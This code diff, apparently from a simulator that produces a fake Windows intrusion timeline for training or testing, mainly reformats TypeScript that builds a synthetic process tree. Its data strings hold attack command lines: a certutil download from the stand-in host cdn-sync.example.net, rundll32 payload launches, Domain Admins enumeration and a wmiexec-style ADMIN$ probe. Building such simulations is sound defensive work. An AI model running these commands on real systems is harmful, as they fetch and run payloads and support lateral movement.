@@ -11,16 +11,46 @@ import { ARCHIVE, ENCODED_POWERSHELL, LOGON_IDS, LURE, PAYLOAD, TASK_NAME, TASK_
 
 /** Process ids no background process may take. */
 export const STORY_PIDS = {
-  wininit: 0x204, services: 0x28c, dcomLaunch: 0x414, networkService: 0x9a8, winlogon: 0x260, dwm: 0x2f4,
-  userinit: 0xc54, explorer: 0xd10, edge: 0x11f8, teams: 0x1244, outlook: 0xc9c, oneDrive: 0x12b0, securityTray: 0x12d4,
-  word: 0xe20, splwow64: 0x19d0, powershell: 0x1b74, conhost: 0x1b90, certutil: 0x1c08, rundll32: 0x1c4c, whoami: 0x1c80,
-  net: 0x1ca4, net1: 0x1cac, cmdTask: 0x1d38, schtasks: 0x1d50, cmdDir: 0x1dd4, vssadmin: 0x1e10, sevenZip: 0x1e6c,
-  curl: 0x1ef0, wsmprovhost: 0x1fa4,
+  wininit: 0x204,
+  services: 0x28c,
+  dcomLaunch: 0x414,
+  networkService: 0x9a8,
+  winlogon: 0x260,
+  dwm: 0x2f4,
+  userinit: 0xc54,
+  explorer: 0xd10,
+  edge: 0x11f8,
+  teams: 0x1244,
+  outlook: 0xc9c,
+  oneDrive: 0x12b0,
+  securityTray: 0x12d4,
+  word: 0xe20,
+  splwow64: 0x19d0,
+  powershell: 0x1b74,
+  conhost: 0x1b90,
+  certutil: 0x1c08,
+  rundll32: 0x1c4c,
+  whoami: 0x1c80,
+  net: 0x1ca4,
+  net1: 0x1cac,
+  cmdTask: 0x1d38,
+  schtasks: 0x1d50,
+  cmdDir: 0x1dd4,
+  vssadmin: 0x1e10,
+  sevenZip: 0x1e6c,
+  curl: 0x1ef0,
+  wsmprovhost: 0x1fa4,
 } as const;
 
 export type ChainStep = keyof typeof STORY_PIDS;
 
-export type Chain = { readonly word: WinProcess; readonly powershell: WinProcess; readonly rundll32: WinProcess; readonly steps: readonly WinProcess[]; readonly taskRuns: readonly WinProcess[] };
+export type Chain = {
+  readonly word: WinProcess;
+  readonly powershell: WinProcess;
+  readonly rundll32: WinProcess;
+  readonly steps: readonly WinProcess[];
+  readonly taskRuns: readonly WinProcess[];
+};
 
 export function runChain(host: ProcessHost, outlook: WinProcess, scheduler: WinProcess): Chain {
   const steps: WinProcess[] = [];
@@ -37,7 +67,15 @@ export function runChain(host: ProcessHost, outlook: WinProcess, scheduler: WinP
   add('splwow64', word, '22:04:01.377', '22:24:20.298', IMAGES.splwow64, `${IMAGES.splwow64} 12288`, NOVAK);
   const powershell = add('powershell', word, '22:04:17.482', '23:11:17.118', IMAGES.powershell, ENCODED_POWERSHELL.commandLine, NOVAK);
   add('conhost', powershell, '22:04:18.067', '23:11:17.116', IMAGES.conhost, `${IMAGES.conhost} 0xffffffff -ForceV1`, NOVAK);
-  add('certutil', powershell, '22:04:26.730', '22:04:27.902', IMAGES.certutil, `certutil.exe -urlcache -f http://cdn-sync.example.net/u.dat ${PAYLOAD.path}`, NOVAK);
+  add(
+    'certutil',
+    powershell,
+    '22:04:26.730',
+    '22:04:27.902',
+    IMAGES.certutil,
+    `certutil.exe -urlcache -f http://cdn-sync.example.net/u.dat ${PAYLOAD.path}`,
+    NOVAK,
+  );
   const rundll32 = add('rundll32', powershell, '22:05:02.311', '23:11:17.095', IMAGES.rundll32, `rundll32.exe ${PAYLOAD.path},Start`, NOVAK);
   add('whoami', rundll32, '22:05:40.250', '22:05:40.391', IMAGES.whoami, 'whoami.exe /groups', NOVAK);
   const net = add('net', rundll32, '22:05:44.019', '22:05:44.402', IMAGES.net, 'net.exe group "Domain Admins" /domain', NOVAK);
@@ -52,7 +90,14 @@ export function runChain(host: ProcessHost, outlook: WinProcess, scheduler: WinP
   add('wsmprovhost', powershell, '22:25:07.204', '22:36:02.650', IMAGES.wsmprovhost, 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', NOVAK);
 
   const taskRuns = TASK_RUNS_US.map((startUs, run) =>
-    host.spawn(scheduler, { image: IMAGES.rundll32, commandLine: `rundll32.exe ${PAYLOAD.path},Sync`, account: SYSTEM, logonId: 0x3e7, startUs, lifeUs: (9 + run) * 60_000_000 }),
+    host.spawn(scheduler, {
+      image: IMAGES.rundll32,
+      commandLine: `rundll32.exe ${PAYLOAD.path},Sync`,
+      account: SYSTEM,
+      logonId: 0x3e7,
+      startUs,
+      lifeUs: (9 + run) * 60_000_000,
+    }),
   );
   return { word, powershell, rundll32, steps, taskRuns };
 }
@@ -61,7 +106,13 @@ export function runChain(host: ProcessHost, outlook: WinProcess, scheduler: WinP
 export function runWmiProbe(host: ProcessHost, wmi: WinProcess): WinProcess[] {
   const own = { account: SVC_BACKUP, logonId: LOGON_IDS.svcBackup, integrity: 'High' } as const;
   const startUs = on11('22:06:41.305');
-  const cmd = host.spawn(wmi, { image: IMAGES.cmd, commandLine: 'cmd.exe /Q /c systeminfo 1> \\\\127.0.0.1\\ADMIN$\\__1773266801 2>&1', startUs, lifeUs: 6_200_000, ...own });
+  const cmd = host.spawn(wmi, {
+    image: IMAGES.cmd,
+    commandLine: 'cmd.exe /Q /c systeminfo 1> \\\\127.0.0.1\\ADMIN$\\__1773266801 2>&1',
+    startUs,
+    lifeUs: 6_200_000,
+    ...own,
+  });
   const info = host.spawn(cmd, { image: sys('systeminfo.exe'), commandLine: 'systeminfo', startUs: startUs + 61_000, lifeUs: 6_000_000, ...own });
   return [cmd, info];
 }
